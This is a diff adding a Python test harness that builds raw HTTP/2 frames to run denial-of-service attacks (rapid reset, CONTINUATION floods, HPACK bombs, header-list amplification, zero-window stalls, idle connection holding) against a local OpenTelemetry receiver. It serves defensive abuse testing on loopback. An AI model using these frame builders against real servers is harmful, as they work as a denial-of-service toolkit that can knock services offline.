@@ -1,0 +1,314 @@
+#!/usr/bin/python3
+# tests/e2e/h2_attack.py: the HTTP/2 attacks of the receiver's abuse tests
+# (h2_abuse.test.js), written as raw frames with Debian's python3-hpack for
+# header blocks. Loopback only; each bounded in time (--seconds) and in
+# connections (--conns). Prints one JSON line when done:
+#   {"attack": ..., "frames": n, "connects": n, "closed_by_server": n, "spans": n}
+# ("spans": what complete Export calls it sent carried, for the accounting).
+import argparse
+import errno
+import json
+import resource
+import select
+import selectors
+import socket
+import struct
+import sys
+import time
+
+import hpack
+
+PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+EXPORT = '/opentelemetry.proto.collector.trace.v1.TraceService/Export'
+
+
+def frame(ftype, flags, sid, payload=b''):
+    return struct.pack('>I', len(payload))[1:] + bytes([ftype, flags]) + struct.pack('>I', sid) + payload
+
+
+def settings(pairs=()):
+    return frame(SETTINGS, 0, 0, b''.join(struct.pack('>HI', k, v) for k, v in pairs))
+
+
+def plain_block(port):
+    """An Export request's header block that leaves the dynamic table alone
+    (static-table names, literals without indexing), so raw entries can be
+    added around it."""
+    def lit(idx, value):
+        v = value.encode()
+        return hpack_int(idx, 4, 0) + hpack_int(len(v), 7, 0) + v
+    te = b'\x00' + hpack_int(2, 7, 0) + b'te' + hpack_int(8, 7, 0) + b'trailers'
+    return (b'\x83\x86' + lit(4, EXPORT) + lit(1, f'127.0.0.1:{port}') +
+            lit(31, 'application/grpc') + te)
+
+
+def hpack_int(value, prefix_bits, first_byte_flags):
+    """An HPACK integer (RFC 7541 5.1)."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first_byte_flags | value])
+    out = [first_byte_flags | limit]
+    value -= limit
+    while value >= 128:
+        out.append((value & 0x7f) | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+class Conn:
+    def __init__(self, port, initial=b'', window=None):
+        self.sock = socket.create_connection(('127.0.0.1', port))
+        self.sock.setblocking(False)
+        self.next_id = 1
+        self.pending = PREFACE + (settings([(4, window)]) if window is not None else settings()) + initial
+        self.closed = False
+
+    def queue(self, data):
+        self.pending += data
+
+    def pump(self, read=True):
+        """Write what is pending, read and drop what came; False once closed."""
+        if self.closed:
+            return False
+        try:
+            while self.pending:
+                n = self.sock.send(self.pending)
+                self.pending = self.pending[n:]
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.closed = True
+            return False
+        if read:
+            try:
+                while True:
+                    d = self.sock.recv(65536)
+                    if not d:
+                        self.closed = True
+                        return False
+            except BlockingIOError:
+                pass
+            except OSError:
+                self.closed = True
+                return False
+        return True
+
+    def stream_id(self):
+        sid = self.next_id
+        self.next_id += 2
+        return sid
+
+    def close(self):
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+
+def raise_nofile(n):
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    want = min(hard, max(soft, n + 64))
+    if want > soft:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
+
+
+def flood(args, build, per_turn=64):
+    """Connections that each send `build(conn)` frames as fast as the server
+    takes them, reconnecting when closed, until --seconds pass."""
+    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
+    conns = []
+    deadline = time.monotonic() + args.seconds
+    while time.monotonic() < deadline:
+        while len(conns) < args.conns:
+            try:
+                conns.append(Conn(args.port))
+                stats['connects'] += 1
+            except OSError:
+                time.sleep(0.01)
+                break
+        for c in list(conns):
+            if len(c.pending) < 1 << 20:
+                for _ in range(per_turn):
+                    c.queue(build(c))
+                    stats['frames'] += 1
+            if not c.pump():
+                stats['closed_by_server'] += 1
+                c.close()
+                conns.remove(c)
+        select.select([c.sock for c in conns], [c.sock for c in conns if c.pending], [], 0.001)
+    for c in conns:
+        c.close()
+    return stats
+
+
+def rapid_reset(args):
+    def build(c):
+        sid = c.stream_id()
+        block = plain_block(args.port)
+        return frame(HEADERS, END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid, struct.pack('>I', 8))
+    return flood(args, build)
+
+
+def continuation(args):
+    # A header block that never ends: HEADERS without END_HEADERS, then
+    # CONTINUATION frames of literal headers, never the last one.
+    def build(c):
+        if getattr(c, 'open_sid', None) is None:
+            c.open_sid = c.stream_id()
+            return frame(HEADERS, 0, c.open_sid, plain_block(args.port))
+        lit = b''.join(b'\x00' + hpack_int(10, 7, 0) + b'x-padding-' + hpack_int(200, 7, 0) + b'a' * 200
+                       for _ in range(70))
+        return frame(CONTINUATION, 0, c.open_sid, lit)
+    return flood(args, build, per_turn=8)
+
+
+def header_list(args):
+    # Requests whose decoded headers are far past any sane list size: one
+    # header put in the dynamic table, then referenced 3,000 times (1 byte
+    # each on the wire, ~4 KB decoded each time).
+    def build(c):
+        sid = c.stream_id()
+        block = plain_block(args.port)
+        if not getattr(c, 'primed', False):
+            c.primed = True
+            block += b'\x40' + hpack_int(8, 7, 0) + b'x-filler' + hpack_int(4000, 7, 0) + b'f' * 4000
+        block += bytes([0x80 | 62]) * 3000      # the one dynamic entry, x-filler
+        return frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
+    return flood(args, build, per_turn=16)
+
+
+def hpack_bomb(args):
+    # Alternating by connection: a literal declared 2^31 bytes long whose
+    # bytes trickle in CONTINUATION frames, and an HPACK integer that never
+    # ends (0x7f then 0xff forever).
+    turn = [0]
+
+    def build(c):
+        if getattr(c, 'open_sid', None) is None:
+            c.open_sid = c.stream_id()
+            turn[0] += 1
+            c.kind = turn[0] % 2 == 0
+            head = plain_block(args.port)
+            if c.kind:
+                head += b'\x00' + hpack_int(6, 7, 0) + b'x-huge' + hpack_int(1 << 31, 7, 0)
+            else:
+                head += b'\x7f' + b'\xff' * 64
+            return frame(HEADERS, 0, c.open_sid, head)
+        return frame(CONTINUATION, 0, c.open_sid, (b'z' if c.kind else b'\xff') * 16384)
+    return flood(args, build, per_turn=8)
+
+
+def zero_window(args):
+    # Window 0, then complete Export calls (a real request each), and the
+    # connection is never read.
+    body = open(args.body, 'rb').read() if args.body else b''
+    msg = b'\x00' + struct.pack('>I', len(body)) + body
+    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
+    conns = []
+    for _ in range(args.conns):
+        c = Conn(args.port, window=0)
+        stats['connects'] += 1
+        for _ in range(args.calls):
+            sid = c.stream_id()
+            c.queue(frame(HEADERS, END_HEADERS, sid, plain_block(args.port)))
+            for off in range(0, len(msg), 16384):
+                last = off + 16384 >= len(msg)
+                c.queue(frame(DATA, END_STREAM if last else 0, sid, msg[off:off + 16384]))
+            stats['frames'] += 2
+            stats['spans'] += args.spans_per_call
+        conns.append(c)
+    deadline = time.monotonic() + args.seconds
+    while time.monotonic() < deadline:
+        for c in conns:
+            c.pump(read=False)
+        time.sleep(0.05)
+    for c in conns:
+        c.close()
+    return stats
+
+
+def hold(args, send_preface):
+    # Many connections that send the preface and SETTINGS (or nothing at
+    # all), then say nothing more.
+    raise_nofile(args.conns)
+    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
+    conns = []
+    deadline = time.monotonic() + args.seconds
+    while time.monotonic() < deadline and len(conns) < args.conns:
+        try:
+            s = socket.create_connection(('127.0.0.1', args.port), timeout=2)
+        except OSError as e:
+            if e.errno in (errno.EMFILE, errno.ENFILE):
+                break
+            time.sleep(0.01)
+            continue
+        stats['connects'] += 1
+        if send_preface:
+            try:
+                s.sendall(PREFACE + settings())
+                stats['frames'] += 1
+            except OSError:
+                pass
+        s.setblocking(False)
+        conns.append(s)
+    # epoll (selectors), not select(): thousands of fds, past FD_SETSIZE.
+    sel = selectors.DefaultSelector()
+    for s in conns:
+        sel.register(s, selectors.EVENT_READ)
+    while time.monotonic() < deadline:
+        for key, _ in sel.select(0.2):
+            s = key.fileobj
+            try:
+                if s.recv(65536):
+                    continue
+            except BlockingIOError:
+                continue
+            except OSError:
+                pass
+            stats['closed_by_server'] += 1
+            sel.unregister(s)
+            conns.remove(s)
+            s.close()
+    sel.close()
+    for s in conns:
+        s.close()
+    return stats
+
+
+ATTACKS = {
+    'rapid_reset': rapid_reset,
+    'continuation': continuation,
+    'header_list': header_list,
+    'hpack_bomb': hpack_bomb,
+    'zero_window': zero_window,
+    'preface_only': lambda a: hold(a, True),
+    'idle': lambda a: hold(a, False),
+}
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument('attack', choices=sorted(ATTACKS))
+    p.add_argument('--port', type=int, required=True)
+    p.add_argument('--seconds', type=float, default=5)
+    p.add_argument('--conns', type=int, default=4)
+    p.add_argument('--calls', type=int, default=16, help='zero_window: calls per connection')
+    p.add_argument('--body', help='zero_window: the request message (protobuf)')
+    p.add_argument('--spans-per-call', type=int, default=0)
+    args = p.parse_args()
+    # The hand-built header block must be what it claims: Debian's HPACK
+    # decoder reads it back first.
+    got = hpack.Decoder().decode(plain_block(args.port))
+    assert [(k.decode() if isinstance(k, bytes) else k) for k, _ in got] == \
+        [':method', ':scheme', ':path', ':authority', 'content-type', 'te'], got
+    stats = ATTACKS[args.attack](args)
+    stats['attack'] = args.attack
+    print(json.dumps(stats))
+    sys.stdout.flush()
+
+
+if __name__ == '__main__':
+    main()
